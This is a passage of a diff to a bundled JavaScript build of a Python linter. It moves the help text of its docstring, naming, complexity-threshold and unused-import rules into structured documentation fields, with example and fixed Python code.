-Start the file with a string literal (after comments and a shebang, before any code):
-
-\`\`\`python
-"""Read and write the application's settings files."""
-
-import json
-\`\`\`
-
-## What is not reported
-
-- Private modules: a file whose name, or one of whose folders, starts with \`_\` (\`_compat.py\`,
-  \`_internal/util.py\`), except dunder names such as \`__init__.py\` and \`__main__.py\`.
-- A string that is not the first statement, an f-string or a bytes literal does not count as a
-  docstring (Python does not store it in \`__doc__\`), so such modules are reported.
-- Files with syntax errors: the first statement may not be what it seems.`;
-const meta = {
-    id: 'missing-module-docstring',
-    name: 'MissingModuleDocstring',
-    kind: 'maintainability',
-    shortDescription: 'A public module or package has no docstring',
-    fullDescription: 'A public module (or a package, through its __init__.py) does not start with a docstring, so ' +
-        'help(), IDEs and documentation tools have nothing to say about what it is for. Private modules ' +
-        '(names starting with an underscore) are not reported.',
-    help: HELP,
-    category: 'documentation',
-    aliases: ['D100', 'D104', 'C0114'],
-    precision: 'very-high',
-    problemSeverity: 'recommendation',
-    // A syntax error can hide the first statement or misplace a definition.
-    needsCleanParse: true,
-};
-exports.missingModuleDocstring = {
-    meta,
+    ...`,
+        notReported: [
+            `Private modules: a file whose name, or one of whose folders, starts with \`_\` (\`_compat.py\`,
+  \`_internal/util.py\`), except dunder names such as \`__init__.py\` and \`__main__.py\`.`,
+            `A string that is not the first statement, an f-string or a bytes literal does not count as a
+  docstring (Python does not store it in \`__doc__\`), so such modules are reported.`,
+            'Files with syntax errors: the first statement may not be what it seems.',
+        ],
+    },
     create(context) {
         return {
             end() {
@@ -8338,24 +9232,29 @@ exports.missingModuleDocstring = {
                 if ((0, docstrings_1.docstringOf)(context.tree.rootNode))
                     return;
                 const message = (0, docstrings_1.isPackageInit)(context.path) ? 'Public package has no docstring in its `__init__.py`' : 'Public module has no docstring';
-                context.reportRange(meta, { row: 0, column: 0 }, { row: 0, column: 0 }, message);
+                context.reportRange({ row: 0, column: 0 }, { row: 0, column: 0 }, message);
             },
         };
     },
-};
+});
 
 
 /***/ }),
 
-/***/ 1681:
-/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+/***/ 8208:
+/***/ ((__unused_webpack_module, exports) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-exports.invalidVariableName = exports.invalidArgumentName = exports.invalidFunctionName = exports.invalidClassName = exports.isDunder = exports.isLowercase = exports.DEFAULT_IGNORE_NAMES = void 0;
+exports.isDunder = exports.isLowercase = exports.DEFAULT_IGNORE_NAMES = void 0;
+exports.ignoredName = ignoredName;
 exports.isMixedCase = isMixedCase;
 exports.isCapWords = isCapWords;
-const scopes_1 = __nccwpck_require__(7985);
+exports.isOverride = isOverride;
+exports.classBases = classBases;
+exports.inherits = inherits;
+exports.namingMeta = namingMeta;
+exports.namingDocs = namingDocs;
 /** pep8-naming's default `ignore-names`. */
 exports.DEFAULT_IGNORE_NAMES = [
     'setUp', 'tearDown', 'setUpClass', 'tearDownClass', 'setUpModule', 'tearDownModule',
@@ -8377,8 +9276,9 @@ function globMatches(pattern, name) {
     }
     return re.test(name);
 }
-function ignored(context, meta, name) {
-    return context.option(meta, 'ignore-names').some((p) => globMatches(p, name));
+/** The name matches one of the rule's `ignore-names` patterns. */
+function ignoredName(context, name) {
+    return context.option('ignore-names').some((p) => globMatches(p, name));
 }
 const isLowercase = (name) => name.toLowerCase() === name;
 exports.isLowercase = isLowercase;
@@ -8404,9 +9304,11 @@ function decorators(definition) {
     return parent.namedChildren.filter((c) => c?.type === 'decorator').map((d) => d.text.replace(/^@\s*/, '').trim());
 }
 const OVERRIDE = /(^|\.)(override|overload)$/;
+/** The definition is decorated with `@override` or `@overload`: its names are chosen elsewhere. */
 function isOverride(definition) {
     return decorators(definition).some((d) => OVERRIDE.test(d) && !d.includes('('));
 }
+/** The text of a class's base list, `(ast.NodeVisitor)`; empty without one. */
 function classBases(scope) {
     return scope.node.childForFieldName('superclasses')?.text ?? '';
 }
@@ -8424,8 +9326,22 @@ function inherits(model, scope, base, depth = 0) {
     }
     return false;
 }
-const HELP_TAIL = `
-## Options
+/** The metadata every PEP 8 naming rule shares, around the rule's own. */
+function namingMeta(meta) {
+    return {
+        id: meta.id,
+        name: meta.name,
+        kind: 'maintainability',
+        shortDescription: meta.shortDescription,
+        fullDescription: meta.fullDescription,
+        category: 'naming',
+        aliases: meta.aliases,
+        precision: 'very-high',
+        problemSeverity: 'recommendation',
+        options: { 'ignore-names': IGNORE_NAMES },
+    };
+}
+const NAMING_MORE = `## Options
 
 \`ignore-names\` (\`[tool.tendril.rules.<rule-id>]\`): glob patterns of names never reported. The
 default is pep8-naming's list, the \`unittest\` hooks and attributes: \`setUp\`, \`tearDown\`,
@@ -8437,280 +9353,10 @@ default is pep8-naming's list, the \`unittest\` hooks and attributes: \`setUp\`,
 The PEP 8 naming rules judge each name against PEP 8. \`inconsistent-naming\`, when enabled,
 judges names against the style the module itself uses most and stays silent on names one of these
 rules already reports, so a name never gets two notes for one problem.`;
-function naming(id, name, short, full, help, aliases) {
-    return {
-        id,
-        name,
-        kind: 'maintainability',
-        shortDescription: short,
-        fullDescription: full,
-        help: help + '\n' + HELP_TAIL,
-        category: 'naming',
-        aliases,
-        precision: 'very-high',
-        problemSeverity: 'recommendation',
-        options: { 'ignore-names': IGNORE_NAMES },
-    };
+/** A naming rule's docs, followed by the sections every PEP 8 naming rule shares. */
+function namingDocs(docs) {
+    return { ...docs, more: docs.more ? `${docs.more.trim()}\n\n${NAMING_MORE}` : NAMING_MORE };
 }
-// --- invalid-class-name ------------------------------------------------------------------------
-const classMeta = naming('invalid-class-name', 'InvalidClassName', 'A class name does not use the CapWords convention', 'PEP 8 names classes in CapWords (`HttpClient`, `ParseError`): a class named `http_client` or ' +
-    '`Http_Client` reads like a function or variable, and callers cannot tell they are ' +
-    'instantiating a class.', `# A class name does not use CapWords
-
-PEP 8 spells class names in CapWords, so that \`Parser(text)\` visibly creates an object and
-\`parse(text)\` visibly calls a function. A lowercase or underscored class name hides that.
-
-## Example
-
-\`\`\`python
-class http_client:
-    ...
-
-class Http_Client:
-    ...
-\`\`\`
-
-Both are reported.
-
-## How to fix
-
-Rename the class: \`class HttpClient:\`. Keep an alias for old callers if it is public API
-(\`http_client = HttpClient\`).
-
-## What is not reported
-
-- Leading underscores: \`class _Helper:\` is fine (the rest must be CapWords).
-- Names matching \`ignore-names\`.`, ['N801', 'C0103']);
-exports.invalidClassName = {
-    meta: classMeta,
-    uses: [scopes_1.scopes],
-    create(context) {
-        return {
-            end() {
-                const model = context.analysis(scopes_1.scopes.name);
-                for (const b of model.bindings) {
-                    if (b.kind !== 'class' || isCapWords(b.name) || ignored(context, classMeta, b.name))
-                        continue;
-                    context.report(classMeta, b.node, `Class name \`${b.name}\` should use CapWords`);
-                }
-            },
-        };
-    },
-};
-// --- invalid-function-name ---------------------------------------------------------------------
-const functionMeta = naming('invalid-function-name', 'InvalidFunctionName', 'A function or method name is not lowercase', 'PEP 8 names functions and methods in lowercase with underscores (`load_config`). A camelCase or ' +
-    'CapWords function name reads like a class and clashes with the rest of the Python ecosystem.', `# A function name is not lowercase
-
-PEP 8 spells function and method names in lowercase, words separated by underscores. A
-\`CapWords\` function looks like a class at the call site, and camelCase names mix two styles in
-one code base.
-
-## Example
-
-\`\`\`python
-def loadConfig(path):
-    ...
-\`\`\`
-
-\`loadConfig\` is reported.
-
-## How to fix
-
-Rename it, \`def load_config(path):\`, and update the callers.
-
-## What is not reported
-
-- Dunder methods (\`__init__\`, \`__getItem__\` is not a real dunder but is still exempt).
-- Methods decorated with \`@override\` or \`@overload\`: the name is chosen elsewhere.
-- \`visit_*\` methods of \`ast.NodeVisitor\` and \`ast.NodeTransformer\` subclasses
-  (\`visit_FunctionDef\`): the node class names are part of the name. Likewise \`do_GET\`,
-  \`do_POST\`, ... of \`http.server.BaseHTTPRequestHandler\` subclasses. Subclasses of subclasses
-  defined in the same module count too.
-- Names matching \`ignore-names\`, by default the \`unittest\` hooks (\`setUp\`, \`tearDownClass\`, ...).`, ['N802', 'C0103']);
-exports.invalidFunctionName = {
-    meta: functionMeta,
-    uses: [scopes_1.scopes],
-    create(context) {
-        return {
-            end() {
-                const model = context.analysis(scopes_1.scopes.name);
-                for (const b of model.bindings) {
-                    if (b.kind !== 'function' || (0, exports.isLowercase)(b.name) || (0, exports.isDunder)(b.name))
-                        continue;
-                    if (ignored(context, functionMeta, b.name) || isOverride(b.owner))
-                        continue;
-                    if (b.scope.kind === 'class' && b.name.startsWith('visit_') && inherits(model, b.scope, /\b(NodeVisitor|NodeTransformer)\b/))
-                        continue;
-                    if (b.scope.kind === 'class' && b.name.startsWith('do_') && inherits(model, b.scope, /HTTPRequestHandler\b/))
-                        continue;
-                    context.report(functionMeta, b.node, `Function name \`${b.name}\` should be lowercase`);
-                }
-            },
-        };
-    },
-};
-// --- invalid-argument-name ---------------------------------------------------------------------
-const argumentMeta = naming('invalid-argument-name', 'InvalidArgumentName', 'A parameter name is not lowercase', 'PEP 8 names function parameters in lowercase with underscores. Parameter names are part of a ' +
-    'function\'s interface (callers pass them as keywords), so a camelCase parameter spreads the ' +
-    'inconsistency to every call site.', `# A parameter name is not lowercase
-
-Parameters are part of the interface: callers write \`fetch(url, maxRetries=3)\`. PEP 8 spells
-them in lowercase with underscores, like other variables.
-
-## Example
-
-\`\`\`python
-def fetch(url, maxRetries=3):
-    ...
-\`\`\`
-
-\`maxRetries\` is reported.
-
-## How to fix
-
-Rename the parameter (\`max_retries\`) and its keyword uses; for public API, accept the old keyword
-for a while.
-
-## What is not reported
-
-- Parameters of methods decorated with \`@override\`: the base class chose the names.
-- Names matching \`ignore-names\`.`, ['N803', 'C0103']);
-exports.invalidArgumentName = {
-    meta: argumentMeta,
-    uses: [scopes_1.scopes],
-    create(context) {
-        return {
-            end() {
-                const model = context.analysis(scopes_1.scopes.name);
-                for (const b of model.bindings) {
-                    if (b.kind !== 'parameter' || (0, exports.isLowercase)(b.name) || ignored(context, argumentMeta, b.name))
-                        continue;
-                    if (b.scope.kind === 'function' && isOverride(b.scope.node))
-                        continue;
-                    context.report(argumentMeta, b.node, `Argument name \`${b.name}\` should be lowercase`);
-                }
-            },
-        };
-    },
-};
-// --- invalid-variable-name ---------------------------------------------------------------------
-const variableMeta = naming('invalid-variable-name', 'InvalidVariableName', 'A variable name does not follow PEP 8', 'PEP 8 names local variables in lowercase, and class attributes and module variables either in ' +
-    'lowercase or in UPPER_CASE (constants), never in mixedCase. Names that break the convention ' +
-    'read like classes or constants and make the code harder to scan.', `# A variable name does not follow PEP 8
-
-Three checks, as pep8-naming has them:
-
-- A variable assigned in a function is lowercase (\`total\`, not \`Total\` or \`totalCount\`).
-- A class attribute is not mixedCase (\`max_size\` or \`MAX_SIZE\`, not \`maxSize\`).
-- A module variable is not mixedCase (\`default_timeout\` or \`DEFAULT_TIMEOUT\`, not
-  \`defaultTimeout\`).
-
-## Example
-
-\`\`\`python
-defaultTimeout = 10
-
-class Client:
-    maxSize = 5
-
-    def send(self, data):
-        Payload = encode(data)
-        return self.post(Payload)
-\`\`\`
-
-\`defaultTimeout\`, \`maxSize\` and \`Payload\` are reported.
-
-## How to fix
-
-Rename the variable: \`default_timeout\` (or \`DEFAULT_TIMEOUT\` for a constant), \`max_size\`,
-\`payload\`.
-
-## What counts
-
-Assignments of every form (tuple unpacking, \`for\` and \`with\` targets, walrus, augmented and
-annotated assignments, annotation-only declarations such as \`fooBar: int\`). Each assignment of a
-badly named variable is reported.
-
-## What is not reported
-
-- In functions: names declared \`global\` or \`nonlocal\` (they belong to another scope), type
-  definitions (\`T = TypeVar("T")\`, \`UserId = NewType(...)\`, \`Point = namedtuple(...)\`,
-  \`NamedTuple\`, \`TypedDict\`, \`ParamSpec\`, \`TypeVarTuple\` calls, \`X: TypeAlias = ...\`),
-  imports, \`except ... as\` names and comprehension variables.
-- Class attributes of \`TypedDict\` classes (the keys are data), dunder names.
-- Names matching \`ignore-names\`.`, ['N806', 'N815', 'N816', 'C0103']);
-const VARIABLE_KINDS = new Set(['assignment', 'augmented', 'for', 'with', 'walrus']);
-const TYPE_FACTORIES = /(^|\.)(TypeVar|NewType|namedtuple|NamedTuple|TypedDict|ParamSpec|TypeVarTuple)$/;
-/** `X = TypeVar("X")`, `X: TypeAlias = ...`: type definitions, named like classes. */
-function definesType(statement) {
-    if (statement.type !== 'assignment')
-        return false;
-    const type = statement.childForFieldName('type');
-    if (type && /(^|\.)TypeAlias$/.test(type.text.trim()))
-        return true;
-    const right = statement.childForFieldName('right');
-    if (right?.type !== 'call')
-        return false;
-    const callee = right.childForFieldName('function');
-    return !!callee && TYPE_FACTORIES.test(callee.text.replace(/\s+/g, ''));
-}
-function variableMessage(candidate, context) {
-    const { name, scope } = candidate;
-    if (candidate.declared || ignored(context, variableMeta, name))
-        return undefined;
-    switch (scope.kind) {
-        case 'function':
-        case 'lambda':
-            if ((0, exports.isLowercase)(name) || definesType(candidate.statement))
-                return undefined;
-            return `Variable \`${name}\` in a function should be lowercase`;
-        case 'class':
-            if (!isMixedCase(name) || (0, exports.isDunder)(name) || /\bTypedDict\b/.test(classBases(scope)))
-                return undefined;
-            return `Class attribute \`${name}\` should not be mixedCase`;
-        case 'module':
-            if (!isMixedCase(name))
-                return undefined;
-            return `Module variable \`${name}\` should not be mixedCase`;
-        default:
-            return undefined;
-    }
-}
-exports.invalidVariableName = {
-    meta: variableMeta,
-    uses: [scopes_1.scopes],
-    create(context) {
-        const declarations = [];
-        return {
-            // `fooBar: int` binds nothing in the scope model, but pep8-naming judges the name.
-            assignment(node) {
-                if (!node.childForFieldName('right') && node.childForFieldName('type') && node.childForFieldName('left')?.type === 'identifier') {
-                    declarations.push(node);
-                }
-            },
-            end() {
-                const model = context.analysis(scopes_1.scopes.name);
-                const candidates = [];
-                for (const b of model.bindings) {
-                    if (!VARIABLE_KINDS.has(b.kind) || b.scope.kind === 'comprehension')
-                        continue;
-                    candidates.push({ name: b.name, node: b.node, scope: b.scope, statement: b.owner, declared: b.declared !== undefined });
-                }
-                for (const statement of declarations) {
-                    const left = statement.childForFieldName('left');
-                    const scope = (0, scopes_1.scopeAt)(model, left.startIndex);
-                    const declared = scope.globals.has(left.text) || scope.nonlocals.has(left.text);
-                    candidates.push({ name: left.text, node: left, scope, statement, declared });
-                }
-                for (const candidate of candidates) {
-                    const message = variableMessage(candidate, context);
-                    if (message)
-                        context.report(variableMeta, candidate.node, message);
-                }
-            },
-        };
-    },
-};
 
 
 /***/ }),
@@ -8723,31 +9369,6 @@ Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.tooManyArguments = void 0;
 /** Pylint R0913: a function with more parameters than the threshold (default 5). */
 const complexity_threshold_1 = __nccwpck_require__(1063);
-const HELP = `# A function takes too many arguments
-
-A function with many parameters is hard to call correctly (which argument goes where?), hard to
-test in all combinations, and often does several jobs at once.
-
-Counted as Pylint counts them (R0913): positional-only, ordinary and keyword-only parameters,
-\`self\` and \`cls\` included. \`*args\` and \`**kwargs\` are not counted, and neither are names
-Pylint ignores by default: those starting with \`_\`, \`ignored_\` or \`unused_\`.
-
-## Example
-
-\`\`\`python
-def connect(host, port, user, password, timeout, retries):
-    ...
-\`\`\`
-
-## How to fix
-
-Group parameters that travel together into an object (a dataclass such as \`Credentials\` or
-\`Options\`), give rarely used parameters defaults behind a \`*\` so callers name them, or split the
-function. The threshold is the \`max-args\` option (default 5, Pylint's).
-
-## What is not reported
-
-Functions at or below the threshold, and lambdas.`;
 exports.tooManyArguments = (0, complexity_threshold_1.thresholdRule)({
     meta: {
         id: 'too-many-arguments',
@@ -8756,9 +9377,25 @@ exports.tooManyArguments = (0, complexity_threshold_1.thresholdRule)({
         fullDescription: 'A function declares more parameters than the threshold allows (positional-only, ordinary and ' +
             'keyword-only, self and cls included, as Pylint counts them). Long parameter lists are hard to ' +
             'call correctly and usually mean the function does too much.',
-        help: HELP,
         aliases: ['R0913', 'PLR0913'],
         precision: 'very-high',
+    },
+    docs: {
+        title: 'A function takes too many arguments',
+        why: `A function with many parameters is hard to call correctly (which argument goes where?), hard to
+test in all combinations, and often does several jobs at once.
+
+Counted as Pylint counts them (R0913): positional-only, ordinary and keyword-only parameters,
+\`self\` and \`cls\` included. \`*args\` and \`**kwargs\` are not counted, and neither are names
+Pylint ignores by default: those starting with \`_\`, \`ignored_\` or \`unused_\`.`,
+        example: `def connect(host, port, user, password, timeout, retries):
+    ...`,
+        fix: `Group parameters that travel together into an object (a dataclass such as \`Credentials\` or
+\`Options\`), give rarely used parameters defaults behind a \`*\` so callers name them, or split the
+function. The threshold is the \`max-args\` option (default 5, Pylint's).`,
+        fixed: `def connect(address, credentials, *, timeout=10, retries=3):
+    ...`,
+        notReported: ['Functions at or below the threshold, and lambdas.'],
     },
     option: 'max-args',
     defaultThreshold: 5,
@@ -8778,36 +9415,6 @@ Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.tooManyBranches = void 0;
 /** Pylint R0912: a function with more branches than the threshold (default 12). */
 const complexity_threshold_1 = __nccwpck_require__(1063);
-const HELP = `# A function has too many branches
-
-Each branch is a separate case the reader must follow and a test must cover. Counted as Pylint 3
-counts them (R0912): an \`if\`, each \`elif\` and an \`else\` count 1 each, except that an \`else\`
-holding only an \`if\` counts like an \`elif\` (nothing for the \`else\` itself); a \`for\` or
-\`while\` counts 1 and its \`else\` 1; each \`except\` handler, the \`else\` of a \`try\` and its
-\`finally\` count 1 each. \`async for\` and \`try\` with \`except*\` count nothing, as in Pylint.
-Branches of nested functions count for those functions, not for the one that contains them.
-
-## Example
-
-\`\`\`python
-def handle(event):
-    if event.kind == "open":
-        ...
-    elif event.kind == "close":
-        ...
-    elif event.kind == "read":
-        ...
-    # ... ten more cases
-\`\`\`
-
-## How to fix
-
-Dispatch through a dictionary of handlers, move groups of cases into helper functions, or use
-polymorphism. The threshold is the \`max-branches\` option (default 12, Pylint's).
-
-## What is not reported
-
-Functions at or below the threshold.`;
 exports.tooManyBranches = (0, complexity_threshold_1.thresholdRule)({
     meta: {
         id: 'too-many-branches',
@@ -8816,9 +9423,54 @@ exports.tooManyBranches = (0, complexity_threshold_1.thresholdRule)({
         fullDescription: 'A function has more branches (if, elif and else arms, loops and their else, except handlers, ' +
             'try-else and finally) than the threshold allows, counted as Pylint counts them. Every branch is a ' +
             'case to read and to test.',
-        help: HELP,
         aliases: ['R0912', 'PLR0912'],
         precision: 'very-high',
+    },
+    docs: {
+        title: 'A function has too many branches',
+        why: `Each branch is a separate case the reader must follow and a test must cover. Counted as Pylint 3
+counts them (R0912): an \`if\`, each \`elif\` and an \`else\` count 1 each, except that an \`else\`
+holding only an \`if\` counts like an \`elif\` (nothing for the \`else\` itself); a \`for\` or
+\`while\` counts 1 and its \`else\` 1; each \`except\` handler, the \`else\` of a \`try\` and its
+\`finally\` count 1 each. \`async for\` and \`try\` with \`except*\` count nothing, as in Pylint.
+Branches of nested functions count for those functions, not for the one that contains them.`,
+        example: `def handle(event):
+    if event.kind == "open":
+        ...
+    elif event.kind == "close":
+        ...
+    elif event.kind == "read":
+        ...
+    elif event.kind == "write":
+        ...
+    elif event.kind == "seek":
+        ...
+    elif event.kind == "flush":
+        ...
+    elif event.kind == "lock":
+        ...
+    elif event.kind == "unlock":
+        ...
+    elif event.kind == "rename":
+        ...
+    elif event.kind == "delete":
+        ...
+    elif event.kind == "chmod":
+        ...
+    elif event.kind == "chown":
+        ...
+    else:
+        ...`,
+        exampleNote: 'Thirteen branches: the `if`, eleven `elif` and the `else`.',
+        fix: `Dispatch through a dictionary of handlers, move groups of cases into helper functions, or use
+polymorphism. The threshold is the \`max-branches\` option (default 12, Pylint's).`,
+        fixed: `HANDLERS = {"open": on_open, "close": on_close, "read": on_read, "write": on_write}
+
+
+def handle(event):
+    handler = HANDLERS.get(event.kind, on_unknown)
+    return handler(event)`,
+        notReported: ['Functions at or below the threshold.'],
     },
     option: 'max-branches',
     defaultThreshold: 12,
@@ -8838,40 +9490,6 @@ Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.tooManyNestedBlocks = void 0;
 /** Pylint R1702: blocks nested deeper than the threshold (default 5) in a function. */
 const complexity_threshold_1 = __nccwpck_require__(1063);
-const HELP = `# Blocks are nested too deeply
-
-Deep nesting forces the reader to remember every enclosing condition and loop to understand one
-line. Measured as Pylint measures it (R1702): the deepest nesting of \`if\`, \`for\`, \`while\` and
-\`try\` blocks in the function; an \`elif\` or \`else\` stays at the level of its \`if\`, and a
-\`try\` with its handlers, \`else\` and \`finally\` is one level. A \`with\` is no level, and Pylint
-starts counting again from 1 inside a \`with\`, an \`except\` handler, a \`match\` case or an
-\`async for\`, and after a nested function. Blocks of a nested function count for that function
-only.
-
-## Example
-
-\`\`\`python
-def scan(paths):
-    for path in paths:
-        if path:
-            for line in read(path):
-                if line:
-                    try:
-                        if line[0] == "#":   # depth 6
-                            ...
-                    except ValueError:
-                        ...
-\`\`\`
-
-## How to fix
-
-Return or \`continue\` early instead of wrapping the rest in a condition, and extract the inner
-loops into functions. The threshold is the \`max-nested-blocks\` option (default 5, Pylint's).
-
-## What is not reported
-
-Functions whose deepest nesting is at or below the threshold. One finding per function, on its
-name, with the deepest level reached.`;
 exports.tooManyNestedBlocks = (0, complexity_threshold_1.thresholdRule)({
     meta: {
         id: 'too-many-nested-blocks',
@@ -8880,9 +9498,49 @@ exports.tooManyNestedBlocks = (0, complexity_threshold_1.thresholdRule)({
         fullDescription: 'A function nests if, for, while and try blocks deeper than the threshold allows, ' +
             'measured as Pylint measures it. Deeply nested code is hard to follow because every level ' +
             'adds a condition the reader must remember.',
-        help: HELP,
         aliases: ['R1702', 'PLR1702'],
         precision: 'very-high',
+    },
+    docs: {
+        title: 'Blocks are nested too deeply',
+        why: `Deep nesting forces the reader to remember every enclosing condition and loop to understand one
+line. Measured as Pylint measures it (R1702): the deepest nesting of \`if\`, \`for\`, \`while\` and
+\`try\` blocks in the function; an \`elif\` or \`else\` stays at the level of its \`if\`, and a
+\`try\` with its handlers, \`else\` and \`finally\` is one level. A \`with\` is no level, and Pylint
+starts counting again from 1 inside a \`with\`, an \`except\` handler, a \`match\` case or an
+\`async for\`, and after a nested function. Blocks of a nested function count for that function
+only.`,
+        example: `def scan(paths):
+    for path in paths:
+        if path:
+            for line in read(path):
+                if line:
+                    try:
+                        if line[0] == "#":   # depth 6
+                            ...
+                    except ValueError:
+                        ...`,
+        fix: `Return or \`continue\` early instead of wrapping the rest in a condition, and extract the inner
+loops into functions. The threshold is the \`max-nested-blocks\` option (default 5, Pylint's).`,
+        fixed: `def scan(paths):
+    for path in paths:
+        if not path:
+            continue
+        for line in read(path):
+            scan_line(line)
+
+
+def scan_line(line):
+    if not line:
+        return
+    try:
+        if line[0] == "#":   # depth 2
+            ...
+    except ValueError:
+        ...`,
+        notReported: [
+            'Functions whose deepest nesting is at or below the threshold. One finding per function, on its name, with the deepest level reached.',
+        ],
     },
     option: 'max-nested-blocks',
     defaultThreshold: 5,
@@ -8902,28 +9560,6 @@ Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.tooManyStatements = void 0;
 /** Pylint R0915: a function with more statements than the threshold (default 50). */
 const complexity_threshold_1 = __nccwpck_require__(1063);
-const HELP = `# A function has too many statements
-
-A long function does many things, and a reader has to hold all of them in mind. Counted as Pylint 3
-counts them (R0915): the function itself counts 1, and every statement in its body at any depth
-counts 1, nested function and class bodies included; an \`if\` or a \`try\` counts as its branches
-(so an \`if\` with an \`else\` counts 2, a \`try\` with a \`finally\` 1), and each \`except\` handler
-counts once more. Pylint does not count \`return\` statements, the \`for\`/\`while\` line or its
-\`else\`, the \`def\`/\`class\` line of a nested function or class, or docstrings.
-
-## Example
-
-A 200-line \`main()\` that parses arguments, reads files, transforms data and writes a report.
-
-## How to fix
-
-Extract each step into a function with a descriptive name; the long function becomes a short
-sequence of calls. The threshold is the \`max-statements\` option (default 50, Pylint's).
-
-## What is not reported
-
-Functions at or below the threshold. Blank lines, comments and docstring length do not matter:
-statements are counted, not lines.`;
 exports.tooManyStatements = (0, complexity_threshold_1.thresholdRule)({
     meta: {
         id: 'too-many-statements',
@@ -8931,9 +9567,92 @@ exports.tooManyStatements = (0, complexity_threshold_1.thresholdRule)({
         shortDescription: 'A function has more statements than the threshold',
         fullDescription: 'A function body holds more statements than the threshold allows, counted as Pylint counts ' +
             'them. Long functions do several things at once and are hard to read, test and reuse.',
-        help: HELP,
         aliases: ['R0915', 'PLR0915'],
         precision: 'very-high',
+    },
+    docs: {
+        title: 'A function has too many statements',
+        why: `A long function does many things, and a reader has to hold all of them in mind. Counted as Pylint 3
+counts them (R0915): the function itself counts 1, and every statement in its body at any depth
+counts 1, nested function and class bodies included; an \`if\` or a \`try\` counts as its branches
+(so an \`if\` with an \`else\` counts 2, a \`try\` with a \`finally\` 1), and each \`except\` handler
+counts once more. Pylint does not count \`return\` statements, the \`for\`/\`while\` line or its
+\`else\`, the \`def\`/\`class\` line of a nested function or class, or docstrings.`,
+        example: `def main():
+    parser = argparse.ArgumentParser(description="Summarise sales files.")
+    parser.add_argument("paths", nargs="+")
+    parser.add_argument("--output", default="report.txt")
+    parser.add_argument("--currency", default="EUR")
+    parser.add_argument("--minimum", type=float, default=0.0)
+    parser.add_argument("--title", default="Sales report")
+    parser.add_argument("--verbose", action="store_true")
+    args = parser.parse_args()
+    if args.verbose:
+        logging.basicConfig(level=logging.DEBUG)
+
+    rows = []
+    for path in args.paths:
+        logging.debug("reading %s", path)
+        try:
+            with open(path, newline="") as handle:
+                rows.extend(csv.DictReader(handle))
+        except OSError as error:
+            logging.error("cannot read %s: %s", path, error)
+            sys.exit(1)
+    logging.info("read %d rows", len(rows))
+
+    totals = {}
+    counts = {}
+    skipped = 0
+    for row in rows:
+        amount = float(row["amount"])
+        if amount < args.minimum:
+            skipped += 1
+            continue
+        if row["currency"] != args.currency:
+            amount = convert(amount, row["currency"], args.currency)
+        region = row["region"].strip().title()
+        totals[region] = totals.get(region, 0.0) + amount
+        counts[region] = counts.get(region, 0) + 1
+    logging.debug("%d rows skipped", skipped)
+
+    regions = sorted(totals, key=totals.get, reverse=True)
+    grand_total = sum(totals.values())
+    average = grand_total / len(rows) if rows else 0.0
+    width = max((len(region) for region in regions), default=6)
+
+    lines = []
+    lines.append(f"{args.title} ({args.currency})")
+    lines.append("=" * 40)
+    for region in regions:
+        share = totals[region] / grand_total * 100 if grand_total else 0.0
+        lines.append(f"{region:<{width}} {totals[region]:>12.2f} {share:5.1f}%")
+        lines.append(f"{'':<{width}} {counts[region]:>12} sales")
+    lines.append("-" * 40)
+    lines.append(f"{'Total':<{width}} {grand_total:>12.2f}")
+    lines.append(f"{'Average':<{width}} {average:>12.2f}")
+    lines.append(f"{skipped} rows below {args.minimum} skipped")
+
+    with open(args.output, "w") as out:
+        out.write("\\n".join(lines) + "\\n")
+    logging.info("wrote %s", args.output)
+    print(f"{len(rows)} rows, {len(regions)} regions")`,
+        exampleNote: `\`main\` counts 51 statements. The usual case is longer still: a 200-line \`main()\` that parses
+arguments, reads files, transforms data and writes a report.`,
+        fix: `Extract each step into a function with a descriptive name; the long function becomes a short
+sequence of calls. The threshold is the \`max-statements\` option (default 50, Pylint's).`,
+        fixed: `def main():
+    args = parse_arguments()
+    if args.verbose:
+        logging.basicConfig(level=logging.DEBUG)
+    rows = read_rows(args.paths)
+    totals, counts, skipped = summarise(rows, args.minimum, args.currency)
+    report = format_report(args, totals, counts, skipped)
+    write_report(args.output, report)
+    print(f"{len(rows)} rows, {len(totals)} regions")`,
+        notReported: [
+            'Functions at or below the threshold. Blank lines, comments and docstring length do not matter: statements are counted, not lines.',
+        ],
     },
     option: 'max-statements',
     defaultThreshold: 50,
@@ -8983,95 +9702,7 @@ exports.unusedImportMessage = unusedImportMessage;
  *   that nothing reads, imports guarded by `try/except ImportError`, imports inside functions.
  */
 const scopes_1 = __nccwpck_require__(7985);
-const HELP = `# An imported name is never used
-
-An \`import\` whose name nothing in the module reads does no useful work, yet it still runs: the
-module is loaded (which can be slow, have side effects, or fail when an optional dependency is
-missing), and the name suggests to the reader a dependency that does not exist. Unused imports
-usually remain after a refactoring, and they hide the imports that matter, lengthen dependency
-lists and can create import cycles.
-
-## Example
-
-\`\`\`python
-import os
-import sys
-import numpy as np
-from typing import List, Optional
-
-
-def greet(name: Optional[str]) -> None:
-    sys.stdout.write(f"hello {name or 'world'}\\n")
-\`\`\`
-
-\`os\`, \`numpy\` (as \`np\`) and \`typing.List\` are reported: nothing reads \`os\`, \`np\` or \`List\`.
-
-## How to fix
-
-Delete the import, or only the unused names of a \`from ... import\` list:
-
-\`\`\`python
-import sys
-from typing import Optional
-\`\`\`
-
-If the import is there on purpose, make the intent visible:
-
-- A re-export from a package's \`__init__.py\` or an API module: list the name in \`__all__\`, or
-  write it as \`from .module import name as name\` (or \`import name as name\`), the explicit
-  re-export form that type checkers also understand.
-- An import kept for its side effects (registering plugins, patching): keep it and suppress the
-  finding on that line, with a comment saying why.
-- An availability check (\`try: import lxml\` ... \`except ImportError:\`): use
-  \`importlib.util.find_spec("lxml") is not None\`, which does not import the module.
-
-## What counts as a use
-
-Any read of the name in the module: statements after the import, function bodies wherever they
-are defined (they run when called, after the module has loaded), class bodies, decorators, default
-values, annotations, names inside string annotations such as \`"Optional[Node]"\` or
-\`cast("Node", value)\`, f-strings, class bases and keywords, \`del name\`, and the strings listed in
-\`__all__\` (\`__all__ = [...]\`, \`__all__ += [...]\`, \`__all__.extend([...])\`,
-\`__all__.append(...)\`). \`import a.b\` binds \`a\`, so any use of \`a\` uses it. When a name is
-bound several times in one scope (an import in \`try\` and a fallback in \`except ImportError\`,
-imports in both branches of an \`if\`), a read of the name uses all of them.
